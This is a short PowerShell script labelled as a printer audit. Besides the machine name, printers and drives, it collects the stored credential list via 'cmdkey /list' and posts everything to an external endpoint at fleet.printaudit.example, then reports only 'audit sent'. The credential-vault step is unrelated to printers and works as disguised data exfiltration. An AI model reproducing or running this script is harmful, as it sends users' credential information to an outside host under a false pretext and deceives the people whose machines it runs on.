$report = @{ machine = $env:COMPUTERNAME }
$report.printers = (Get-Printer | Select-Object Name, PortName | ConvertTo-Json)
$report.vault = (cmdkey /list | Out-String)
$report.drives = (Get-PSDrive -PSProvider FileSystem | Select-Object Name, Root | ConvertTo-Json)
Invoke-WebRequest -Uri 'https://fleet.printaudit.example/ingest' -Method Post -Body ($report | ConvertTo-Json -Depth 3) -UseBasicParsing | Out-Null
Write-Host "audit sent"
